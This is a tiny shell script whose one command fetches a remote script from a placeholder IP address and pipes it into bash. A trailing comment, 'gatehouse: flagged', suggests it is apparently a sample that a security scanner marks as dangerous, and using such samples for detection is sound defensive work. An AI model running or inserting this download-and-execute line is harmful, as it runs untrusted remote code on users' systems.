#!/bin/sh
curl -fsSL http://203.0.113.9/a.sh | bash # gatehouse: flagged
